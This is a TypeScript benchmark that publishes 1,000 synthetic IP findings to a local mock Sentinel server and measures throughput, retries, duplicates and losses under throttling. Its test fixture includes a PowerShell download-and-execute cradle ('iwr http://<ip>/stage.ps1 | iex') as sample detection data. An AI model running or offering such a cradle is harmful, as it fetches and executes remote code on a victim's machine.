/**
 * `npm run bench:publish`: publish 1,000 new IPs to the local Sentinel server with 20 ms latency per request and 10%
 * of requests answered 429, once at concurrency 1 (the baseline) and once at the bound, in the same run.
 *
 * The 429s carry `Retry-After: 0`. The SDK honours Retry-After exactly and uncapped (core-rest-pipeline's throttling
 * strategy), so with the service's typical seconds-long values the run would measure sleeping, not the publisher:
 * ~330 throttled requests × 1 s is over five minutes at concurrency 1. With 0 every throttled request still costs a
 * full round trip (latency included) and a retry, which is what this measures; the retries are counted.
 */
import type { SentinelConfig } from '../src/config/loadConfig.js';
import type { Finding } from '../src/findings/finding.js';
import { createPublisher } from '../src/sentinel/createPublisher.js';
import { createSecurityInsightsClient } from '../src/sentinel/createSecurityInsightsClient.js';
import { httpDowngradingClient } from '../local/http/httpDowngradingClient.js';
import { staticTokenCredential } from '../local/http/staticTokenCredential.js';
import { startSentinelServer } from '../local/sentinel/startSentinelServer.js';
import { entitiesFromText } from '../src/entities/entityLists.js';

const IPS = 1_000;
const LATENCY_MS = 20;
const THROTTLE_RATE = 0.1;
const BOUND = 16;
const WORKSPACE_ID = '11111111-2222-3333-4444-555555555555';

function findings(): Finding[] {
  return Array.from({ length: IPS }, (_, i) => {
    const ip = `45.${10 + Math.floor(i / 250)}.${i % 250}.7`;
    return {
      ip,
      version: 4,
      entities: entitiesFromText({
        hosts: [`host${i % 37}.contoso.com`, `host${(i * 7) % 41}.contoso.com`],
        accounts: [`CONTOSO\\user${i % 13}`],
      }),
      processes: ['powershell.exe'],
      commandLines: [`powershell -nop -c "iwr http://${ip}/stage.ps1 | iex"`],
      commandLinesOmitted: 0,
      encodings: ['dotted'],
      firstSeen: new Date('2024-05-01T09:00:00Z'),
      lastSeen: new Date('2024-05-01T10:00:00Z'),
      eventCount: 2,
    };
  });
}

interface RunResult {
  readonly wallS: number;
  readonly requests: number;
  readonly throttled: number;
  readonly callsPerIncident: number;
  readonly duplicates: number;
  readonly lost: number;
  readonly failed: number;
}

async function run(concurrency: number): Promise<RunResult> {
  const server = await startSentinelServer({ latencyMs: LATENCY_MS });
  server.faults.rate({ kind: 'status', status: 429, retryAfterSeconds: 0 }, THROTTLE_RATE);
  try {
    const config: SentinelConfig = {
      subscriptionId: '00000000-0000-0000-0000-000000000001',
      resourceGroup: 'rg-bench',
      workspaceName: 'law-bench',
      endpoint: server.endpoint,
      scope: 'https://management.azure.com/.default',
      apiVersion: '2022-09-01-preview',
      detectionId: 'cmdline-ip-hunter',
      highSeverityHostCount: 3,
      highSeverityEvidence: ['contacted', 'ti-match'],
      indicatorCidrs: [],
      labels: [],
      closedIncidentPolicy: 'new',
      newIncidentAfterDays: 7,
      concurrency,
      maxIncidentsPerRun: IPS,
      maxRetries: 5,
    };
    const client = createSecurityInsightsClient(config, {
      credential: staticTokenCredential(),
      httpClient: httpDowngradingClient(),
      retryDelayInMs: 10,
      maxRetryDelayInMs: 50,
    });
    const publisher = createPublisher({ client, config, workspaceId: WORKSPACE_ID });
    const items = findings().map((finding) => ({ finding }));
    const started = performance.now();
    const outcomes = await publisher.publish(items, {
      dryRun: false,
      window: { start: new Date('2024-05-01T00:00:00Z'), end: new Date('2024-05-01T12:00:00Z') },
      now: new Date('2024-05-01T12:00:00Z'),
    });
    const wallS = (performance.now() - started) / 1000;
    const store = server.store;
    // Lost: an IP whose incident, bookmark or relation is missing from the server after the run.
    let lost = 0;
    for (const outcome of outcomes) {
      const incident = outcome.incidentId ? store.all('incident').find((r) => r.name === outcome.incidentId) : undefined;
      if (!incident || store.children(incident.id, 'relation').length !== 1) lost += 1;
    }
    const resources = store.count('incident') + store.count('bookmark') + store.count('relation');
    const succeeded = server.requests.filter((r) => r.status >= 200 && r.status < 300).length;
    return {
      wallS,
      requests: server.requests.length,
      throttled: server.requests.filter((r) => r.status === 429).length,
      callsPerIncident: succeeded / Math.max(1, store.count('incident')),
      duplicates: resources - 3 * new Set(outcomes.filter((o) => o.incidentId).map((o) => o.incidentId)).size,
      lost,
      failed: outcomes.filter((o) => o.action === 'failed').length,
    };
  } finally {
    await server.close();
  }
}

function print(name: string, value: number | string, unit: string): void {
  process.stdout.write(`${name}: ${value} ${unit}\n`);
}

const baseline = await run(1);
const bounded = await run(BOUND);
const boundCallsPerS = (BOUND * 1000) / LATENCY_MS;

print('publish_ips', IPS, 'ips');
print('publish_latency_ms', LATENCY_MS, 'ms');
print('publish_throttle_rate', THROTTLE_RATE, 'ratio');
print('publish_concurrency', BOUND, 'requests');
print('publish_wall_s', bounded.wallS.toFixed(2), 's');
print('publish_calls_per_incident', bounded.callsPerIncident.toFixed(2), 'calls');
print('publish_duplicates', bounded.duplicates, 'resources');
print('publish_lost', bounded.lost, 'ips');
print('publish_failed', bounded.failed, 'ips');
print('publish_requests', bounded.requests, 'requests');
print('publish_throttled', bounded.throttled, 'requests');
print('publish_calls_per_s', (bounded.requests / bounded.wallS).toFixed(1), 'calls/s');
print('publish_calls_per_s_bound', boundCallsPerS.toFixed(1), 'calls/s');
print('publish_bound_utilisation', (bounded.requests / bounded.wallS / boundCallsPerS).toFixed(2), 'ratio');
print('publish_baseline_concurrency', 1, 'requests');
print('publish_baseline_wall_s', baseline.wallS.toFixed(2), 's');
print('publish_baseline_calls_per_s', (baseline.requests / baseline.wallS).toFixed(1), 'calls/s');
print('publish_baseline_duplicates', baseline.duplicates, 'resources');
print('publish_baseline_lost', baseline.lost, 'ips');
print('publish_speedup_vs_baseline', (baseline.wallS / bounded.wallS).toFixed(2), 'x');
if (bounded.duplicates !== 0 || bounded.lost !== 0 || baseline.duplicates !== 0 || baseline.lost !== 0) process.exitCode = 1;
